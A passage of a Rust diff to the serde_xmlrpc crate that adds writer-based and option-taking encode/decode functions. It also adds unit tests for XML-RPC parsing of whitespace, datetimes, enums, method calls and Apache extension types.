+/// Takes in the name of a method call and any serializable sequence or tuple of
+/// parameters and converts them to a request body with the given options.
+/// This behaves the same as [request_to_string_typed] otherwise.
+pub fn request_to_string_typed_with<T>(
+    name: &str,
+    params: &T,
+    options: &EncoderOptions,
+) -> Result<String>
+where
+    T: ?Sized + serde::ser::Serialize,
+{
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    request_to_writer_typed_with(&mut buf, name, params, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
+
+/// Takes in the name of a method call and any serializable sequence or tuple of
+/// parameters and writes a valid xmlrpc request body directly into an
+/// `io::Write` sink. This behaves the same as [request_to_string_typed].
+pub fn request_to_writer_typed<W, T>(writer: W, name: &str, params: &T) -> Result<()>
+where
+    W: Write,
+    T: ?Sized + serde::ser::Serialize,
+{
+    request_to_writer_typed_with(writer, name, params, &EncoderOptions::new())
+}
+
+/// Takes in the name of a method call and any serializable sequence or tuple of
+/// parameters and writes the request body directly into an `io::Write` sink
+/// with the given options. This behaves the same as [request_to_writer_with]
+/// otherwise.
+pub fn request_to_writer_typed_with<W, T>(
+    writer: W,
+    name: &str,
+    params: &T,
+    options: &EncoderOptions,
+) -> Result<()>
+where
+    W: Write,
+    T: ?Sized + serde::ser::Serialize,
+{
+    write_request(writer, name, options, |writer| {
+        params.serialize(ser::ParamsSerializer::new(writer, options))
+    })
+}
+
+fn write_request<W, F>(
+    writer: W,
+    name: &str,
+    options: &EncoderOptions,
+    write_params: F,
+) -> Result<()>
+where
+    W: Write,
+    F: FnOnce(&mut Writer<EncodingWriter<W>>) -> Result<()>,
+{
+    let mut writer = options.writer(EncodingWriter::new(writer, options.output_encoding()?));
+
+    ser::write_document_start(&mut writer, "methodCall", options)?;
+    writer.write_tag("methodName", name)?;
+
+    writer.write_start_tag("params")?;
+    write_params(&mut writer)?;
+    writer.write_end_tag("params")?;
+    writer.write_end_tag("methodCall")?;
+
+    Ok(())
+}
+
+/// Attempts to parse an individual value out of a str.
+/// ```
 /// let x: i32 = serde_xmlrpc::value_from_str("<value><int>42</int></value>").unwrap();
 /// assert_eq!(x, 42);
 /// ```
@@ -215,12 +950,100 @@ pub fn value_from_str<'a, T>(input: &'a str) -> Result<T>
 where
     T: serde::de::Deserialize<'a>,
 {
-    let mut reader = Reader::from_str(input);
-    reader.expand_empty_elements(true);
-    reader.trim_text(true);
+    T::deserialize(&mut Deserializer::from_str(input))
+}
+
+/// Attempts to parse an individual value out of a str with the given options.
+/// This behaves the same as [value_from_str] otherwise.
+pub fn value_from_str_with<'a, T>(input: &'a str, options: &DecoderOptions) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    let mut de = str_deserializer(input, options);
+    let value = T::deserialize(&mut de)?;
+    finish_document(&mut de, None)?;
+    Ok(value)
+}
+
+fn str_deserializer<'a>(input: &'a str, options: &DecoderOptions) -> Deserializer<SliceReader<'a>> {
+    Deserializer::new(SliceReader::with_options(
+        quick_xml::Reader::from_str(input),
+        options.clone(),
+    ))
+}
+
+fn slice_deserializer<'a>(
+    input: &'a [u8],
+    options: &DecoderOptions,
+) -> Deserializer<SliceReader<'a>> {
+    Deserializer::new(SliceReader::with_options(
+        quick_xml::Reader::from_reader(input),
+        options.clone(),
+    ))
+}
+
+fn reader_deserializer<R>(
+    reader: R,
+    options: &DecoderOptions,
+) -> Deserializer<IoReader<BufReader<R>>>
+where
+    R: Read,
+{
+    Deserializer::new(IoReader::with_options(
+        quick_xml::Reader::from_reader(BufReader::new(reader)),
+        options.clone(),
+    ))
+}
+
+/// Attempts to parse an individual value out of raw bytes, decoding them the
+/// same way as [response_from_slice].
+/// ```
+/// let x: String = serde_xmlrpc::value_from_slice(b"\xEF\xBB\xBF<value>text</value>").unwrap();
+/// assert_eq!(x, "text");
+/// ```
+pub fn value_from_slice<'a, T>(input: &'a [u8]) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    T::deserialize(&mut Deserializer::from_slice(input))
+}
+
+/// Attempts to parse an individual value out of raw bytes with the given
+/// options. This behaves the same as [value_from_slice] otherwise.
+pub fn value_from_slice_with<'a, T>(input: &'a [u8], options: &DecoderOptions) -> Result<T>
+where
+    T: serde::de::Deserialize<'a>,
+{
+    let mut de = slice_deserializer(input, options);
+    let value = T::deserialize(&mut de)?;
+    finish_document(&mut de, None)?;
+    Ok(value)
+}
+
+/// Attempts to parse an individual value out of an `io::Read` source.
+/// ```
+/// let x: i32 = serde_xmlrpc::value_from_reader("<value><int>42</int></value>".as_bytes()).unwrap();
+/// assert_eq!(x, 42);
+/// ```
+pub fn value_from_reader<R, T>(reader: R) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    T::deserialize(&mut Deserializer::from_reader(reader))
+}
 
-    reader.expect_tag(QName(b"value"))?;
-    T::deserialize(ValueDeserializer::new(&mut reader)?)
+/// Attempts to parse an individual value out of an `io::Read` source with the
+/// given options. This behaves the same as [value_from_reader] otherwise.
+pub fn value_from_reader_with<R, T>(reader: R, options: &DecoderOptions) -> Result<T>
+where
+    R: Read,
+    T: serde::de::DeserializeOwned,
+{
+    let mut de = reader_deserializer(reader, options);
+    let value = T::deserialize(&mut de)?;
+    finish_document(&mut de, None)?;
+    Ok(value)
 }
 
 /// Attempts to convert any data type which can be represented as an xmlrpc value into a String.
@@ -233,10 +1056,56 @@ pub fn value_to_string<T>(val: T) -> Result<String>
 where
     T: serde::ser::Serialize,
 {
-    let mut writer = Writer::new(Vec::new());
-    let ser = crate::ser::Serializer::new(&mut writer);
-    val.serialize(ser)?;
-    Ok(String::from_utf8(writer.into_inner()).map_err(error::DecodingError::from)?)
+    value_to_string_with(val, &EncoderOptions::new())
+}
+
+/// Attempts to convert any data type which can be represented as an xmlrpc
+/// value into a String with the given options. This behaves the same as
+/// [value_to_string] otherwise.
+pub fn value_to_string_with<T>(val: T, options: &EncoderOptions) -> Result<String>
+where
+    T: serde::ser::Serialize,
+{
+    expect_utf8(options)?;
+    let mut buf = Vec::new();
+    value_to_writer_with(&mut buf, val, options)?;
+    Ok(String::from_utf8(buf).map_err(error::EncodingError::from)?)
+}
+
+/// Attempts to write any data type which can be represented as an xmlrpc value
+/// directly into an `io::Write` sink.
+/// ```
+/// let mut buf = Vec::new();
+/// serde_xmlrpc::value_to_writer(&mut buf, 42).unwrap();
+/// assert_eq!(buf, b"<value><int>42</int></value>");
+/// ```
+pub fn value_to_writer<W, T>(writer: W, val: T) -> Result<()>
+where
+    W: Write,
+    T: serde::ser::Serialize,
+{
+    value_to_writer_with(writer, val, &EncoderOptions::new())
+}
+
+/// Attempts to write any data type which can be represented as an xmlrpc value
+/// directly into an `io::Write` sink with the given options. This behaves the
+/// same as [value_to_writer] otherwise.
+///
+/// There is no XML declaration to name the encoding in, so this fails if the
+/// options ask for output which isn't UTF-8.
+pub fn value_to_writer_with<W, T>(writer: W, val: T, options: &EncoderOptions) -> Result<()>
+where
+    W: Write,
+    T: serde::ser::Serialize,
+{
+    if !matches!(options.output_encoding()?, OutputEncoding::Utf8) {
+        return Err(error::EncodingError::UndeclaredEncoding(
+            options.encoding.as_deref().unwrap_or_default().into(),
+        )
+        .into());
+    }
+    let mut writer = options.writer(writer);
+    val.serialize(Serializer::with_options(&mut writer, options))
 }
 
 /// Attempts to convert a Vec of values to any data type which can be deserialized.
@@ -275,6 +1144,88 @@ mod tests {
         )
     }
 
+    #[test]
+    fn test_write_request_to_writer() {
+        let mut buf = Vec::new();
+        request_to_writer(&mut buf, "hello world", vec![42.into()].into_iter()).unwrap();
+        assert_eq!(
+            String::from_utf8(buf).unwrap(),
+            request_to_string("hello world", vec![42.into()].into_iter()).unwrap()
+        );
+    }
+
+    #[test]
+    fn test_stringify_request_typed() {
+        assert_eq!(
+            request_to_string_typed("hello world", &()).unwrap(),
+            request_to_string("hello world", vec![].into_iter()).unwrap()
+        );
+
+        assert_eq!(
+            request_to_string_typed("hello world", &("/rosout", 42, vec![1, 2])).unwrap(),
+            request_to_string(
+                "hello world",
+                vec![
+                    "/rosout".into(),
+                    42.into(),
+                    vec![Value::Int(1), Value::Int(2)].into()
+                ]
+                .into_iter()
+            )
+            .unwrap()
+        );
+
+        assert_eq!(
+            request_to_string_typed(
+                "hello world",
+                &[Test {
+                    hello: "world".to_string()
+                }]
+            )
+            .unwrap(),
+            r#"<?xml version="1.0" encoding="utf-8"?><methodCall><methodName>hello world</methodName><params><param><value><struct><member><name>hello</name><value><string>world</string></value></member></struct></value></param></params></methodCall>"#
+        );
+
+        assert!(matches!(
+            request_to_string_typed("hello world", &42),
+            Err(Error::EncodingError(
+                error::EncodingError::ParamsMustBeSequence
+            ))
+        ));
+    }
+
+    #[test]
+    fn test_stringify_response_typed() {
+        assert_eq!(
+            response_to_string_typed(&42).unwrap(),
+            response_to_string(vec![Value::Int(42)].into_iter()).unwrap()
+        );
+
+        let val: (i32, String) =
+            response_from_str(&response_to_string_typed(&(1, "hello world".to_string())).unwrap())
+                .unwrap();
+        assert_eq!(val, (1, "hello world".to_string()));
+    }
+
+    #[test]
+    fn test_stringify_fault() {
+        let fault = Fault {
+            fault_code: 4,
+            fault_string: "Too many parameters.".into(),
+        };
+
+        let body = fault_to_string(&fault).unwrap();
+        assert_eq!(
+            body,
+            r#"<?xml version="1.0" encoding="utf-8"?><methodResponse><fault><value><struct><member><name>faultCode</name><value><int>4</int></value></member><member><name>faultString</name><value><string>Too many parameters.</string></value></member></struct></value></fault></methodResponse>"#
+        );
+
+        match response_from_str::<Value>(&body).unwrap_err() {
+            Error::Fault(f) => assert_eq!(f, fault),
+            err => panic!("{:?}", err),
+        }
+    }
+
     /// A 32-bit signed integer (`<i4>` or `<int>`).
     #[test]
     fn parse_int_values() {
@@ -359,6 +1310,86 @@ mod tests {
         );
     }
 
+    #[test]
+    fn parse_string_whitespace() {
+        // Whitespace inside of strings is kept exactly.
+        assert_eq!(
+            value_from_str::<String>("<value><string>  padded\n </string></value>").unwrap(),
+            "  padded\n "
+        );
+        assert_eq!(
+            value_from_str::<String>("<value>  padded\n </value>").unwrap(),
+            "  padded\n "
+        );
+        assert_eq!(value_from_str::<String>("<value> </value>").unwrap(), " ");
+        assert_eq!(
+            value_from_reader::<_, Option<String>>("<value>\t</value>".as_bytes()).unwrap(),
+            Some("\t".to_string())
+        );
+
+        // Whitespace around other scalar values is not significant.
+        assert_eq!(
+            value_from_str::<Value>("<value><int> 42\n</int></value>").unwrap(),
+            Value::Int(42)
+        );
+        assert_eq!(
+            value_from_str::<Value>("<value><boolean> 1 </boolean></value>").unwrap(),
+            Value::Bool(true)
+        );
+        assert_eq!(
+            value_from_str::<Value>("<value><double> 1.5 </double></value>").unwrap(),
+            Value::Double(1.5)
+        );
+        assert_eq!(
+            value_from_str::<Value>(
+                "<value><dateTime.iso8601> 19980717T14:08:55 </dateTime.iso8601></value>"
+            )
+            .unwrap(),
+            value_from_str::<Value>(
+                "<value><dateTime.iso8601>19980717T14:08:55</dateTime.iso8601></value>"
+            )
+            .unwrap()
+        );
+        assert_eq!(
+            request_from_str("<methodCall><methodName> m </methodName><params/></methodCall>")
+                .unwrap()
+                .0,
+            "m"
+        );
+
+        // Whitespace between tags is ignored.
+        let x: (Option<String>, Option<i32>, Value) = value_from_str(
+            r#"<value>
+              <array>
+                <data>
+                  <value> <string> a </string> </value>
+                  <value>
+                    <nil/>
+                  </value>
+                  <value>
+                    <base64>
+                      aGVsbG8g
+                      d29ybGQ=
+                    </base64>
+                  </value>
+                </data>
+              </array>
+            </value>"#,
+        )
+        .unwrap();
+        assert_eq!(
+            x,
+            (
+                Some(" a ".to_string()),
+                None,
+                Value::Base64(b"hello world".to_vec())
+            )
+        );
+
+        // Text can't be mixed with a type tag.
+        assert!(value_from_str::<Value>("<value>a<int>1</int></value>").is_err());
+    }
+
     /// A double-precision IEEE 754 floating point number (`<double>`).
     #[test]
     fn parse_double_values() {
@@ -395,6 +1426,71 @@ mod tests {
     }
 
     /// An ISO 8601 formatted date/time value (`<dateTime.iso8601>`).
+    #[test]
+    fn parse_datetime_values() {
+        let input = "<value><dateTime.iso8601>19980717T14:08:55</dateTime.iso8601></value>";
+        let dt = iso8601::datetime("19980717T14:08:55").unwrap();
+
+        let val: Value = value_from_str(input).unwrap();
+        assert_eq!(val, Value::DateTime(dt));
+        assert_eq!(value_to_string(&val).unwrap(), input);
+        assert_eq!(
+            value_from_reader::<_, Value>(input.as_bytes()).unwrap(),
+            val
+        );
+
+        // Dates can still be read as plain strings.
+        let x: String = value_from_str(input).unwrap();
+        assert_eq!(x, "19980717T14:08:55");
+
+        // Round trips through Value keep the type, including nested ones.
+        let val = Value::Array(vec![Value::DateTime(dt), Value::Int(1)]);
+        assert_eq!(to_value(&val).unwrap(), val);
+        assert_eq!(from_value::<Value>(val.clone()).unwrap(), val);
+        let body = response_to_string(vec![val.clone()].into_iter()).unwrap();
+        assert_eq!(response_from_str::<Value>(&body).unwrap(), val);
+
+        // Milliseconds are kept in the short form, without adding an offset.
+        let input = "<value><dateTime.iso8601>19980717T14:08:55.123</dateTime.iso8601></value>";
+        let val: Value = value_from_str(input).unwrap();
+        assert_eq!(
+            val,
+            Value::DateTime(iso8601::datetime("19980717T14:08:55.123").unwrap())
+        );
+        assert_eq!(value_to_string(&val).unwrap(), input);
+
+        // Anything which can't be represented in the short form is written in
+        // the extended format instead.
+        let dt = iso8601::datetime("2023-01-02T03:04:05.678+02:00").unwrap();
+        assert_eq!(
+            value_to_string(Value::DateTime(dt)).unwrap(),
+            "<value><dateTime.iso8601>2023-01-02T03:04:05.678+02:00</dateTime.iso8601></value>"
+        );
+
+        assert!(value_from_str::<Value>(
+            "<value><dateTime.iso8601>yesterday</dateTime.iso8601></value>"
+        )
+        .is_err());
+
+        // A struct member can't pass itself off as the private dateTime marker.
+        let body = "<value><struct><member><name>$serde_xmlrpc::private::DateTime</name><value>19980717T14:08:55</value></member></struct></value>";
+        let val: Value = value_from_str(body).unwrap();
+        assert_eq!(
+            val,
+            Value::Struct(
+                vec![(
+                    "$serde_xmlrpc::private::DateTime".to_string(),
+                    Value::String("19980717T14:08:55".to_string())
+                )]
+                .into_iter()
+                .collect()
+            )
+        );
+        assert_eq!(from_value::<Value>(val.clone()).unwrap(), val);
+        assert!(value_from_str::<DateTime>(body).is_err());
+        let body = "<value><struct><member><name>$serde_xmlrpc::private::DateTime</name><value><int>1</int></value></member></struct></value>";
+        assert!(value_from_str::<Value>(body).is_ok());
+    }
 
     /// Base64-encoded binary data (`<base64>`).
     #[test]
@@ -508,6 +1604,164 @@ mod tests {
         assert_eq!(c, vec![vec!["TCPROS".to_string()]]);
     }
 
+    #[test]
+    fn test_parse_method_call() {
+        let val = r#"<?xml version="1.0"?>
+          <methodCall>
+            <methodName>requestTopic</methodName>
+            <params>
+              <param><value>/rosout</value></param>
+              <param><value><int>42</int></value></param>
+              <param><value><array><data><value><array><data><value>TCPROS</value></data></array></value></data></array></value></param>
+            </params>
+          </methodCall>"#;
+
+        let call = MethodCall::parse(val).unwrap();
+        assert_eq!(call.method_name(), "requestTopic");
+
+        let (a, b, c): (String, i32, Vec<Vec<String>>) = call.params().unwrap();
+        assert_eq!(a, "/rosout");
+        assert_eq!(b, 42);
+        assert_eq!(c, vec![vec!["TCPROS".to_string()]]);
+
+        // The params can be read again, so this should line up with what
+        // request_from_str returns.
+        let vals: Vec<Value> = call.params().unwrap();
+        assert_eq!(vals, request_from_str(val).unwrap().1);
+
+        // Extra params are an error rather than being silently dropped.
+        assert!(call.params::<(String, i32)>().is_err());
+        assert!(call.params::<()>().is_err());
+
+        let call = MethodCall::parse(
+            "<methodCall><methodName>ping</methodName><params></params></methodCall>",
+        )
+        .unwrap();
+        assert_eq!(call.method_name(), "ping");
+        call.params::<()>().unwrap();
+
+        // The <params> element itself is optional.
+        let body = "<methodCall><methodName>ping</methodName></methodCall>";
+        let call = MethodCall::parse(body).unwrap();
+        call.params::<()>().unwrap();
+        assert_eq!(call.params::<Vec<Value>>().unwrap(), vec![]);
+        assert!(call.params::<(i32,)>().is_err());
+        assert_eq!(
+            request_from_str(body).unwrap(),
+            ("ping".to_string(), vec![])
+        );
+        assert_eq!(
+            request_from_reader(body.as_bytes()).unwrap(),
+            ("ping".to_string(), vec![])
+        );
+    }
+
+    #[test]
+    fn test_parse_from_reader() {
+        let val = r#"<?xml version="1.0"?>
+          <methodCall>
+            <methodName>requestTopic</methodName>
+            <params>
+              <param><value>/rosout</value></param>
+              <param><value><array><data><value><int>1</int></value><value><nil/></value></data></array></value></param>
+            </params>
+          </methodCall>"#;
+
+        // A reader with a tiny buffer makes sure events spanning multiple
+        // reads are handled correctly.
+        let reader = std::io::BufReader::with_capacity(3, val.as_bytes());
+        let (method, vals) = request_from_reader(reader).unwrap();
+        assert_eq!((method, vals), request_from_str(val).unwrap());
+
+        let x: Option<Vec<Option<i32>>> = value_from_reader(
+            "<value><array><data><value><int>1</int></value><value><nil/></value></data></array></value>"
+                .as_bytes(),
+        )
+        .unwrap();
+        assert_eq!(x, Some(vec![Some(1), None]));
+
+        let err = response_from_reader::<_, String>(
+            "<methodResponse><fault><value><struct><member><name>faultCode</name><value><int>4</int></value></member><member><name>faultString</name><value>oops</value></member></struct></value></fault></methodResponse>"
+                .as_bytes(),
+        )
+        .unwrap_err();
+        assert!(matches!(err, Error::Fault(Fault { fault_code: 4, .. })));
+    }
+
+    #[test]
+    fn test_parse_response_multiple_params() {
+        let body = response_to_string(
+            vec![
+                Value::Int(42),
+                Value::String("data".to_string()),
+                Value::Array(vec![Value::Bool(true)]),
+            ]
+            .into_iter(),
+        )
+        .unwrap();
+
+        let vals: Vec<Value> = response_params_from_str(&body).unwrap();
+        assert_eq!(
+            vals,
+            vec![
+                Value::Int(42),
+                Value::String("data".to_string()),
+                Value::Array(vec![Value::Bool(true)]),
+            ]
+        );
+
+        let (a, b, c): (i32, String, Vec<bool>) =
+            response_params_from_reader(body.as_bytes()).unwrap();
+        assert_eq!((a, b, c), (42, "data".to_string(), vec![true]));
+
+        // Not reading every param is an error.
+        assert!(response_params_from_str::<(i32, String)>(&body).is_err());
+
+        // Faults are still returned as errors.
+        let body = fault_to_string(&Fault {
+            fault_code: 4,
+            fault_string: "Too many parameters.".into(),
+        })
+        .unwrap();
+        assert!(matches!(
+            response_params_from_str::<Vec<Value>>(&body),
+            Err(Error::Fault(_))
+        ));
+    }
+
+    #[test]
+    fn test_embedded_values() {
+        use quick_xml::Reader;
+
+        // Values can be read out of the middle of a larger document, leaving
+        // the reader positioned right after them. Note that the reader is
+        // configured to expand empty elements.
+        let input = "<wrapper><value><int>1</int></value><value>two</value><extra/></wrapper>";
+        let mut reader = Reader::from_str(input);
+        reader.read_event().unwrap();
+
+        let mut de = Deserializer::new(de::SliceReader::new(reader));
+        assert_eq!(i32::deserialize(&mut de).unwrap(), 1);
+        assert_eq!(<&str>::deserialize(&mut de).unwrap(), "two");
+
+        let mut reader = de.into_inner().into_inner();
+        assert!(matches!(reader.read_event().unwrap(), Event::Start(_)));
+
+        let reader = Reader::from_reader(std::io::BufReader::new(input.as_bytes()));
+        let mut de = Deserializer::new(de::IoReader::new(reader));
+        de.read.read_event().unwrap();
+        assert_eq!(Value::deserialize(&mut de).unwrap(), Value::Int(1));
+        assert_eq!(String::deserialize(&mut de).unwrap(), "two");
+
+        let val = Test {
+            hello: "world".to_string(),
+        };
+        assert_eq!(
+            val.serialize(value::Serializer::new()).unwrap(),
+            to_value(&val).unwrap()
+        );
+    }
+
     #[test]
     fn test_response_to_value() {
         // Ensure Value implementes serde::Deserialize. This allows reading
@@ -565,6 +1819,38 @@ mod tests {
         assert_eq!(x, Some("hello world".to_string()));
     }
 
+    #[test]
+    fn test_borrowed_str() {
+        #[derive(Debug, PartialEq, Deserialize)]
+        struct Topic<'a> {
+            name: &'a str,
+            #[serde(borrow)]
+            kind: Cow<'a, str>,
+        }
+
+        let input = "<value><struct><member><name>name</name><value>/rosout</value></member><member><name>kind</name><value><string>rosgraph_msgs/Log</string></value></member></struct></value>";
+        let x: Topic = value_from_str(input).unwrap();
+        assert_eq!(
+            x,
+            Topic {
+                name: "/rosout",
+                kind: Cow::Borrowed("rosgraph_msgs/Log"),
+            }
+        );
+        assert!(matches!(x.kind, Cow::Borrowed(_)));
+
+        let x: Vec<&str> = value_from_str(
+            "<value><array><data><value></value><value><string>a</string></value></data></array></value>",
+        )
+        .unwrap();
+        assert_eq!(x, vec!["", "a"]);
+
+        // Escaped text needs to be unescaped, so it can't be borrowed.
+        let x: Cow<str> = value_from_str("<value><string>a &amp; b</string></value>").unwrap();
+        assert_eq!(x, "a & b");
+        assert!(value_from_str::<&str>("<value><string>a &amp; b</string></value>").is_err());
+    }
+
     use serde::{Deserialize, Serialize};
 
     #[derive(Debug, PartialEq, Serialize, Deserialize)]
@@ -606,4 +1892,1443 @@ mod tests {
             "<value><nil/></value>",
         );
     }
+
+    #[test]
+    fn test_to_string_integers() {
+        assert_eq!(
+            &value_to_string(i64::from(i32::MIN)).unwrap(),
+            "<value><int>-2147483648</int></value>"
+        );
+
+        assert_eq!(
+            &value_to_string(u32::MAX).unwrap(),
+            "<value><i8>4294967295</i8></value>"
+        );
+
+        assert_eq!(
+            &value_to_string(i64::MIN).unwrap(),
+            "<value><i8>-9223372036854775808</i8></value>"
+        );
+
+        assert_eq!(
+            &value_to_string(Value::Int64(42)).unwrap(),
+            "<value><int>42</int></value>"
+        );
+
+        let x: i64 = value_from_str(&value_to_string(i64::MAX as u64).unwrap()).unwrap();
+        assert_eq!(x, i64::MAX);
+
+        // Anything above i64::MAX can't be represented.
+        assert!(matches!(
+            value_to_string(u64::MAX),
+            Err(Error::EncodingError(
+                error::EncodingError::IntegerOutOfRange(u64::MAX)
+            ))
+        ));
+        assert!(to_value(u64::MAX).is_err());
+        assert_eq!(to_value(42u64).unwrap(), Value::Int64(42));
+    }
+
+    #[test]
+    fn test_explicit_types() {
+        #[derive(Debug, PartialEq, Serialize, Deserialize)]
+        struct Explicit {
+            #[serde(with = "crate::as_base64")]
+            data: Vec<u8>,
+            #[serde(with = "crate::as_i8")]
+            small: i32,
+            #[serde(with = "crate::as_nil_if_none")]
+            missing: Option<i32>,
+            at: DateTime<String>,
+            blob: Base64,
+            nothing: Nil,
+        }
+
+        let val = Explicit {
+            data: vec![1, 2, 3],
+            small: 7,
+            missing: None,
+            at: DateTime("19980717T14:08:55".to_string()),
+            blob: Base64(b"hi".to_vec()),
+            nothing: Nil,
+        };
+
+        let body = value_to_string(&val).unwrap();
+        assert_eq!(
+            body,
+            "<value><struct>\
+             <member><name>data</name><value><base64>AQID</base64></value></member>\
+             <member><name>small</name><value><i8>7</i8></value></member>\
+             <member><name>missing</name><value><nil/></value></member>\
+             <member><name>at</name><value><dateTime.iso8601>19980717T14:08:55</dateTime.iso8601></value></member>\
+             <member><name>blob</name><value><base64>aGk=</base64></value></member>\
+             <member><name>nothing</name><value><nil/></value></member>\
+             </struct></value>"
+        );
+        assert_eq!(value_from_str::<Explicit>(&body).unwrap(), val);
+
+        // The value serializer should produce the same types.
+        let value = to_value(&val).unwrap();
+        let expected = Value::Struct(
+            vec![
+                ("data".to_string(), Value::Base64(vec![1, 2, 3])),
+                ("small".to_string(), Value::Int64(7)),
+                ("missing".to_string(), Value::Nil),
+                (
+                    "at".to_string(),
+                    Value::DateTime(iso8601::datetime("19980717T14:08:55").unwrap()),
+                ),
+                ("blob".to_string(), Value::Base64(b"hi".to_vec())),
+                ("nothing".to_string(), Value::Nil),
+            ]
+            .into_iter()
+            .collect(),
+        );
+        assert_eq!(value, expected);
+        assert_eq!(from_value::<Explicit>(value).unwrap(), val);
+
+        assert!(
+            value_from_str::<DateTime<String>>("<value><string>nope</string></value>").is_err()
+        );
+    }
+
+    #[test]
+    fn test_enums() {
+        #[derive(Debug, PartialEq, Serialize, Deserialize)]
+        enum Shape {
+            Empty,
+            Circle(f64),
+            Line(i32, i32),
+            Rect { w: i32, h: i32 },
+        }
+
+        let cases = [
+            (
+                Shape::Empty,
+                "<value><string>Empty</string></value>",
+                Value::String("Empty".to_string()),
+            ),
+            (
+                Shape::Circle(1.5),
+                "<value><struct><member><name>Circle</name><value><double>1.5</double></value></member></struct></value>",
+                Value::Struct(vec![("Circle".to_string(), Value::Double(1.5))].into_iter().collect()),
+            ),
+            (
+                Shape::Line(1, 2),
+                "<value><struct><member><name>Line</name><value><array><data><value><int>1</int></value><value><int>2</int></value></data></array></value></member></struct></value>",
+                Value::Struct(
+                    vec![(
+                        "Line".to_string(),
+                        Value::Array(vec![Value::Int(1), Value::Int(2)]),
+                    )]
+                    .into_iter()
+                    .collect(),
+                ),
+            ),
+            (
+                Shape::Rect { w: 3, h: 4 },
+                "<value><struct><member><name>Rect</name><value><struct><member><name>w</name><value><int>3</int></value></member><member><name>h</name><value><int>4</int></value></member></struct></value></member></struct></value>",
+                Value::Struct(
+                    vec![(
+                        "Rect".to_string(),
+                        Value::Struct(
+                            vec![
+                                ("w".to_string(), Value::Int(3)),
+                                ("h".to_string(), Value::Int(4)),
+                            ]
+                            .into_iter()
+                            .collect(),
+                        ),
+                    )]
+                    .into_iter()
+                    .collect(),
+                ),
+            ),
+        ];
+
+        for (shape, body, value) in cases {
+            assert_eq!(value_to_string(&shape).unwrap(), body);
+            assert_eq!(value_from_str::<Shape>(body).unwrap(), shape);
+            assert_eq!(to_value(&shape).unwrap(), value);
+            assert_eq!(from_value::<Shape>(value.clone()).unwrap(), shape);
+            assert_eq!(value_from_str::<Value>(body).unwrap(), value);
+        }
+
+        // Unit variants can also be read from untyped strings.
+        assert_eq!(
+            value_from_str::<Shape>("<value>Empty</value>").unwrap(),
+            Shape::Empty
+        );
+
+        // Enums work as params and inside other values.
+        let body =
+            request_to_string_typed("draw", &(Shape::Empty, vec![Shape::Circle(2.0)])).unwrap();
+        let (name, params) = request_from_str(&body).unwrap();
+        assert_eq!(name, "draw");
+        assert_eq!(
+            from_values::<(Shape, Vec<Shape>)>(params).unwrap(),
+            (Shape::Empty, vec![Shape::Circle(2.0)])
+        );
+
+        assert!(value_from_str::<Shape>("<value><string>Triangle</string></value>").is_err());
+        assert!(value_from_str::<Shape>("<value><int>1</int></value>").is_err());
+        assert!(value_from_str::<Shape>(
+            "<value><struct><member><name>Circle</name><value><double>1</double></value></member><member><name>Empty</name><value><nil/></value></member></struct></value>"
+        )
+        .is_err());
+    }
+
+    #[test]
+    fn test_extensions() {
+        let options = DecoderOptions::new().extensions(true);
+
+        // The prefix doesn't matter, only the namespace it's bound to.
+        let body = r#"<?xml version="1.0"?>
+<methodCall xmlns:apache="http://ws.apache.org/xmlrpc/namespaces/extensions">
+<methodName>test</methodName>
+<params>
+<param><value><apache:i1>-5</apache:i1></value></param>
+<param><value><apache:i2>300</apache:i2></value></param>
+<param><value><apache:i8>9000000000</apache:i8></value></param>
+<param><value><apache:float>1.5</apache:float></value></param>
+<param><value><apache:nil/></value></param>
+<param><value><apache:biginteger>-123456789012345678901234567890</apache:biginteger></value></param>
+<param><value><apache:bigdecimal>1.25E+3</apache:bigdecimal></value></param>
+</params>
+</methodCall>"#;
+        let (a, b, c, d, e, f, g): (i8, i16, i64, f32, Option<i32>, String, String) =
+            MethodCall::parse_with(body, &options)
+                .unwrap()
+                .params()
+                .unwrap();
+        assert_eq!(a, -5);
+        assert_eq!(b, 300);
+        assert_eq!(c, 9_000_000_000);
+        assert_eq!(d, 1.5);
+        assert_eq!(e, None);
+        assert_eq!(f, "-123456789012345678901234567890");
+        assert_eq!(g, "1.25E+3");
+
+        // A default namespace declared on the value works as well.
+        let body = r#"<value><i8 xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">42</i8></value>"#;
+        assert_eq!(
+            value_from_str_with::<Value>(body, &options).unwrap(),
+            Value::Int64(42)
+        );
+
+        let body = r#"<value xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><array><data>
+<value><ex:dateTime>2003-01-01T12:00:00.000+0100</ex:dateTime></value>
+<value><ex:serializable>aGVsbG8=</ex:serializable></value>
+</data></array></value>"#;
+        assert_eq!(
+            value_from_str_with::<Value>(body, &options).unwrap(),
+            Value::Array(vec![
+                Value::DateTime(iso8601::datetime("2003-01-01T12:00:00.000+0100").unwrap()),
+                Value::Base64(b"hello".to_vec()),
+            ])
+        );
+
+        // Without the option the tags are unknown.
+        let body = r#"<value xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><ex:i8>42</ex:i8></value>"#;
+        assert!(value_from_str::<Value>(body).is_err());
+        assert_eq!(
+            value_from_str_with::<Value>(body, &options).unwrap(),
+            Value::Int64(42)
+        );
+
+        // The usual prefix bound to another namespace isn't an extension.
+        let body = r#"<value xmlns:ex="urn:example"><ex:i8>42</ex:i8></value>"#;
+        assert!(value_from_str_with::<Value>(body, &options).is_err());
+        let body = r#"<value><ex:i8>42</ex:i8></value>"#;
+        assert!(value_from_str_with::<Value>(body, &options).is_err());
+
+        // Malformed big numbers are rejected.
+        for body in [
+            r#"<value xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><ex:biginteger>12a</ex:biginteger></value>"#,
+            r#"<value xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><ex:bigdecimal>1.2.3</ex:bigdecimal></value>"#,
+        ] {
+            assert!(value_from_str_with::<String>(body, &options).is_err());
+        }
+
+        // Emitted extension types round-trip.
+        let encoder = EncoderOptions::new().extensions(true);
+        let body = request_to_string_with(
+            "test",
+            vec![Value::Int64(7), Value::Nil, Value::Int(3)].into_iter(),
+            &encoder,
+        )
+        .unwrap();
+        assert_eq!(
+            body,
